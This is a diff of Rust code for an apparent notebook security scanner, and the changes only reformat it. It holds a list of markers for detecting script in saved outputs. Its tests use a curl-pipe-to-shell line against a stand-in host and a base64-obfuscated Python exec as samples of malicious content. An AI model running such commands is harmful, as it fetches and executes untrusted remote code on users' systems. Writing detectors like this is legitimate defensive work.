@@ -104,7 +104,10 @@ impl Format for Notebook {
                 Err(error) => {
                     let message = format!("the notebook does not parse: {}", error.reason);
                     scan.report(Finding::new(&NOTEBOOK_MALFORMED, message).at(error.offset as u64));
-                    scan.gap(error.offset as u64, "notebook not read past a mistake in its JSON; fetch it again");
+                    scan.gap(
+                        error.offset as u64,
+                        "notebook not read past a mistake in its JSON; fetch it again",
+                    );
                     break;
                 }
             }
@@ -134,9 +137,13 @@ impl Cell {
             "source" if self.source.len() < CELL_BYTES => self.source.push_str(text),
             "outputs" => {
                 let mime = reader.nearest_key().map(|key| key.text().into_owned()).unwrap_or_default();
-                let lower = text.get(..text.floor_char_boundary(CELL_BYTES)).unwrap_or_default().to_ascii_lowercase();
+                let lower =
+                    text.get(..text.floor_char_boundary(CELL_BYTES)).unwrap_or_default().to_ascii_lowercase();
                 let acts = mime == "application/javascript"
-                    || (mime == "text/html" && ["<script", "javascript:", "onerror=", "onload=", "<iframe"].iter().any(|mark| lower.contains(mark)));
+                    || (mime == "text/html"
+                        && ["<script", "javascript:", "onerror=", "onload=", "<iframe"]
+                            .iter()
+                            .any(|mark| lower.contains(mark)));
                 if acts && self.script.is_none() {
                     self.script = Some((reader.offset() as u64, text.to_owned()));
                 }
@@ -151,7 +158,8 @@ impl Cell {
     fn judge(&self, scan: &mut Scan<'_>) {
         let place = Location { pointer: Some(format!("/cells/{}", self.index)), ..Location::default() };
         if let Some((offset, text)) = &self.script {
-            let finding = Finding::new(&NOTEBOOK_SCRIPT, "a saved output holds script").located(&place).at(*offset);
+            let finding =
+                Finding::new(&NOTEBOOK_SCRIPT, "a saved output holds script").located(&place).at(*offset);
             scan.report(finding.confidence(Confidence::Medium).evidence(text));
         }
         if !self.secrets.is_empty() {
@@ -170,14 +178,19 @@ impl Cell {
             script::inspect_commands(&self.source, &place, scan);
             return;
         }
-        if first.starts_with("%%") && !["%%time", "%%capture", "%%python", "%%prun"].iter().any(|magic| first.starts_with(magic)) {
+        if first.starts_with("%%")
+            && !["%%time", "%%capture", "%%python", "%%prun"].iter().any(|magic| first.starts_with(magic))
+        {
             return;
         }
         let (mut python, mut shell) = (String::new(), String::new());
         for line in self.source.lines() {
             let code = line.trim_start();
             let indent = line.get(..line.len().saturating_sub(code.len())).unwrap_or_default();
-            let command = code.strip_prefix('!').or_else(|| code.strip_prefix("%system ")).or_else(|| code.split_once("= !").map(|(_, command)| command));
+            let command = code
+                .strip_prefix('!')
+                .or_else(|| code.strip_prefix("%system "))
+                .or_else(|| code.split_once("= !").map(|(_, command)| command));
             match command {
                 Some(command) => {
                     shell.push_str(command);
@@ -217,7 +230,12 @@ mod tests {
     fn commands_and_code_of_cells_are_judged() {
         let outcome = scan(&notebook("x = 1\n!curl http://x.example/p | sh\n", ""));
         assert_eq!(outcome.format, Some("notebook"));
-        assert!(outcome.findings.iter().any(|found| found.rule == &script::SHELL_SCRIPT && found.severity == Severity::High));
+        assert!(
+            outcome
+                .findings
+                .iter()
+                .any(|found| found.rule == &script::SHELL_SCRIPT && found.severity == Severity::High)
+        );
         let outcome = scan(&notebook("import base64\nexec(base64.b64decode('cGFzcw=='))", ""));
         assert_eq!(outcome.findings[0].rule, &source::PYTHON_HIDDEN_CODE);
         assert_eq!(outcome.findings[0].location.line, Some(2));
@@ -227,7 +245,10 @@ mod tests {
     fn script_in_an_output_is_low_and_a_table_silent() {
         let outcome = scan(&notebook("df", "<script>go()</script>"));
         assert!(outcome.findings.iter().any(|found| found.rule == &NOTEBOOK_SCRIPT));
-        assert_eq!(scan(&notebook("%matplotlib inline\ndf.head?\n!pip install torch", "<table></table>")).findings, []);
+        assert_eq!(
+            scan(&notebook("%matplotlib inline\ndf.head?\n!pip install torch", "<table></table>")).findings,
+            []
+        );
     }
 
     #[test]
